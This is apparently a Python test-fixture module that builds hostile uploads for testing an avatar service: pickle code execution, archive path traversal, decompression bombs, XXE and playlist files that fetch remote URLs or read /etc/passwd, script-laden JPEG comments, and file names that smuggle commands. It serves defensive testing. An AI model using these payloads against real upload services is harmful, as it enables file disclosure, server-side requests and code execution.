"""Uploads that mean harm: what is no picture, what points elsewhere, what is larger than it says, what is cut."""

import gzip
import io
import pickle
import struct
import tarfile
import zipfile
import zlib
from fractions import Fraction
from pathlib import Path

import av
import cv2
import numpy as np

from tests.avatar_cache.clips import corners, write_clip

SIDE = 64
_COMMENTED = b"\xff\xd8\xff\xfe"
"""How a JPEG begins whose first segment is a comment."""


class Program:
    """Leaves a mark where it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self._mark = mark

    def __reduce__(self) -> tuple[object, tuple[Path]]:
        return Path.touch, (self._mark,)


def hostile_files(folder: Path, *, portrait: bytes, address: str, mark: Path) -> dict[str, tuple[str, bytes]]:
    """Return hostile uploads by kind: name and content of a file.

    Args:
        folder: Folder for temporary files.
        portrait: A photograph that is accepted as an avatar.
        address: ``HOST:PORT`` that the files point to.
        mark: File that exists if a program in an upload has run.
    """
    kinds = {
        **_no_pictures(portrait, mark),
        **_pointing_elsewhere(folder, address),
        **_larger_than_they_say(folder),
        **_damaged(folder, portrait),
    }
    odd = dict(zip(kinds, _odd_names(address), strict=False))
    return {kind: (odd.get(kind, name), content) for kind, (name, content) in kinds.items()}


def _no_pictures(portrait: bytes, mark: Path) -> dict[str, tuple[str, bytes]]:
    packed, tarred = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("../../evil.py", "boom")
    with tarfile.open(fileobj=tarred, mode="w:gz") as tar:
        tar.addfile(tarfile.TarInfo("../../evil.py"))
    checkpoint, evil = io.BytesIO(), pickle.dumps(Program(mark))
    with zipfile.ZipFile(checkpoint, "w") as archive:
        archive.writestr("archive/data.pkl", evil)
    array = io.BytesIO()
    np.save(array, np.array([Program(mark)], object), allow_pickle=True)
    return {
        "nothing": ("a.mp4", b""),
        "a text": ("a.mp4", b"hello " * 99),
        "noise": ("a.mp4", np.random.default_rng(0).bytes(5000)),
        "zeros": ("a.mp4", bytes(1 << 20)),
        "a shell script": ("a.mp4", f"#!/bin/sh\ntouch {mark}\n".encode()),
        "a program": ("a.mp4", b"\x7fELF\2\1\1" + bytes(9) + b"\2\0\x3e\0" + bytes(200)),
        "a page": ("a.html", b"<!doctype html><script>fetch('/api/avatars')</script>"),
        "an archive": ("a.zip", packed.getvalue()),
        "a tape archive": ("a.tar.gz", tarred.getvalue()),
        "a bomb of zeros": ("a.gz", gzip.compress(bytes(32 << 20))),
        "a pickle": ("a.pkl", evil),
        "a checkpoint": ("a.pth", checkpoint.getvalue()),
        "an array of objects": ("a.npy", array.getvalue()),
        "a sound": (
            "a.wav",
            b"RIFF\x24\x10\0\0WAVEfmt \x10\0\0\0\1\0\1\0\x80\xbb\0\0\0\x77\1\0\2\0\x10\0data" + bytes(4096),
        ),
        "a wall": ("a.png", _png(np.full((300, 300, 3), 90, np.uint8))),
        "a wall with a script in its comment": ("a.jpg", _commented(b"<script>alert(1)</script><?php system('id') ?>")),
        "a wall with an archive behind it": ("a.png", _png(np.full((64, 64, 3), 90, np.uint8)) + packed.getvalue()),
        "an animation": ("a.gif", _gif(portrait)),
    }


def _pointing_elsewhere(folder: Path, address: str) -> dict[str, tuple[str, bytes]]:
    host, port = address.split(":")
    hls = f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nhttp://{address}/a.ts\n#EXT-X-ENDLIST\n".encode()
    local = b"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
    glued = f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nconcat:http://{address}/a|/etc/passwd\n".encode()
    sdp = (
        f"v=0\no=- 0 0 IN IP4 {host}\ns=x\nc=IN IP4 {host}\nt=0 0\nm=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    )
    dash = (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">'
        f'<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>http://{address}/a.mp4'
        "</BaseURL></Representation></AdaptationSet></Period></MPD>"
    )
    entity = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "http://{address}/x">]><svg>&x;</svg>'
    drawing = (
        f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><image href='http://{address}/a.png'/></svg>"
    )
    return {
        "a playlist": ("a.m3u8", hls),
        "a playlist called mp4": ("a.mp4", hls),
        "a playlist of this machine's files": ("a.m3u8", local),
        "a playlist of glued files": ("a.m3u8", glued),
        "a list of files": ("a.ffconcat", f"ffconcat version 1.0\nfile 'http://{address}/a.mp4'\n".encode()),
        "a session description": ("a.sdp", sdp.encode()),
        "a manifest of segments": ("a.mpd", dash.encode()),
        "a document with an outer entity": ("a.svg", entity.encode()),
        "a drawing of a picture elsewhere": ("a.svg", drawing.encode()),
        "a stream's address": ("a.asx", f"[Reference]\nRef1=http://{address}/a?MSWMExt=.asf\n".encode()),
        "a clip whose pictures lie elsewhere": ("a.mov", _with_outer_data(folder, f"http://{address}/a.mov")),
        "a clip whose pictures lie in a file": ("a.mov", _with_outer_data(folder, "file:///etc/passwd")),
    }


def _larger_than_they_say(folder: Path) -> dict[str, tuple[str, bytes]]:
    text = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(64 << 20), 9))
    grey = np.full((SIDE, SIDE, 3), 90, np.uint8)
    wall = _png(grey)
    return {
        "a huge PNG": ("a.png", _png_header(60_000, 60_000)),
        "a huge JPEG": (
            "a.jpg",
            b"\xff\xd8\xff\xc0\0\x11\x08" + struct.pack(">HH", 65_500, 65_500) + b"\3\1\x22\0\2\x11\1\3\x11\1",
        ),
        "a huge WebP": ("a.webp", b"RIFF\x1a\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xff\xff\xff" * 2 + bytes(4)),
        "a PNG with a text of 64 MiB": ("a.png", wall[:33] + text + wall[33:]),
        "a huge clip": ("a.mov", _clip_of(folder, [_png_header(30_000, 30_000)], size=(30_000, 30_000))),
        "a clip with a huge picture": ("a.mov", _clip_of(folder, [_png_header(16_000, 16_000)] * 2)),
        "a clip that becomes huge": ("a.mov", _clip_of(folder, [wall, wall, *[_png_header(16_000, 16_000)] * 9])),
        "a clip of 20,000 pictures a minute": ("a.mp4", _clip_of(folder, [wall] * 20_000, rate=333)),
        "a clip of 9,999 pictures in a second": (
            "a.mov",
            _clip_of(folder, [wall] * 10_000, times_ms=[*(index / 10 for index in range(9_999)), 50_000]),
        ),
        "a clip of eleven days": (
            "a.mkv",
            _clip_of(folder, [cv2.imencode(".jpg", grey)[1].tobytes()] * 2, times_ms=[0, 1e9], codec="mjpeg"),
        ),
        "a clip that changes its size": ("a.mov", _clip_of(folder, [wall, _png(corners(96, 80))] * 9)),
    }


def _damaged(folder: Path, portrait: bytes) -> dict[str, tuple[str, bytes]]:
    clip = write_clip(folder / "clip.mp4", [corners(SIDE, SIDE)] * 25).read_bytes()
    film = write_clip(folder / "clip.mkv", [corners(SIDE, SIDE)] * 25).read_bytes()
    data = clip.index(b"mdat") + 4
    return {
        "a header alone": ("a.mp4", b"\0\0\0\x20ftypisom\0\0\2\0isomiso2avc1mp41"),
        "a portrait cut short": ("a.jpg", portrait[:900]),
        "a clip without its index": ("a.mp4", clip[: clip.index(b"moov")]),
        "a clip of broken pictures": ("a.mp4", clip[:data] + b"\xff" * 400 + clip[data + 400 :]),
        "a film cut in its header": ("a.mkv", film[:120]),
        "a film of any length": ("a.mkv", film[:5] + b"\x01" + b"\xff" * 7 + film[13:]),
        "a box larger than all files": ("a.mp4", clip[:32] + b"\0\0\0\1moov" + b"\x7f" + b"\xff" * 7 + bytes(400)),
        "ten thousand boxes in each other": (
            "a.mp4",
            clip[:32] + b"".join(struct.pack(">I4s", 8 * (10_000 - depth), b"moov") for depth in range(10_000)),
        ),
    }


def _odd_names(address: str) -> list[str]:
    return [
        "../../../../tmp/evil.mp4",
        "..\\..\\evil.mp4",
        "/etc/cron.d/evil",
        f"http://{address}/a.mp4",
        "|touch evil",
        "a" * 4000 + ".mp4",
        "\u202e4pm.exe",
        "",
    ]


def _png(picture: np.ndarray) -> bytes:
    return cv2.imencode(".png", picture)[1].tobytes()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_header(width: int, height: int) -> bytes:
    """Return a picture of any size with next to no pixels."""
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + _chunk(b"IDAT", zlib.compress(bytes(999))) + _chunk(b"IEND", b"")


def _commented(comment: bytes) -> bytes:
    jpeg = cv2.imencode(".jpg", np.full((64, 64, 3), 90, np.uint8))[1].tobytes()
    return _COMMENTED + struct.pack(">H", len(comment) + 2) + comment + jpeg[2:]


def _gif(portrait: bytes) -> bytes:
    """Return an animation whose pictures would do, had it a container that is taken."""
    picture = cv2.resize(cv2.imdecode(np.frombuffer(portrait, np.uint8), cv2.IMREAD_COLOR), (SIDE, SIDE))
    memory = io.BytesIO()
    with av.open(memory, "w", format="gif") as container:
        stream = container.add_stream("gif", rate=25)
        stream.width, stream.height, stream.pix_fmt = SIDE, SIDE, "bgr8"
        frame = av.VideoFrame.from_ndarray(picture, format="bgr24").reformat(format="bgr8")
        for index in range(5):
            frame.pts = index
            container.mux(stream.encode(frame))
        container.mux(stream.encode(None))
    return memory.getvalue()


def _clip_of(
    folder: Path,
    pictures: list[bytes],
    *,
    size: tuple[int, int] = (SIDE, SIDE),
    rate: int = 25,
    times_ms: list[float] | None = None,
    codec: str = "png",
) -> bytes:
    """Return a clip whose pictures are these PNG files, or JPEG ones, whatever their size is."""
    path = folder / ("a.mov" if codec == "png" else "a.mkv")
    step = Fraction(1, 10_000) if times_ms else Fraction(1, rate)
    with av.open(str(path), "w") as container:
        stream = container.add_mux_stream(codec, rate=rate, width=size[0], height=size[1])
        stream.time_base = step
        for index, picture in enumerate(pictures):
            packet = av.Packet(picture)
            packet.stream, packet.is_keyframe = stream, True
            packet.time_base = step
            packet.pts = packet.dts = round(10 * times_ms[index]) if times_ms else index
            container.mux(packet)
    return path.read_bytes()


def _with_outer_data(folder: Path, url: str) -> bytes:
    """Return a clip whose data reference names another file (ISO/IEC 14496-12, 8.7.2)."""
    clip = _clip_of(folder, [_png(corners(SIDE, SIDE))] * 5)
    inside = b"\0\0\0\x0curl \0\0\0\1"
    assert inside in clip
    outside = struct.pack(">I4sI", 12 + len(url) + 1, b"url ", 0) + url.encode() + b"\0"
    grown = len(outside) - len(inside)
    clip = clip.replace(inside, outside)
    for box in (b"dref", b"dinf", b"minf", b"mdia", b"trak", b"moov"):
        at = clip.rindex(box, 0, clip.index(outside)) - 4
        clip = clip[:at] + struct.pack(">I", struct.unpack_from(">I", clip, at)[0] + grown) + clip[at + 4 :]
    return clip
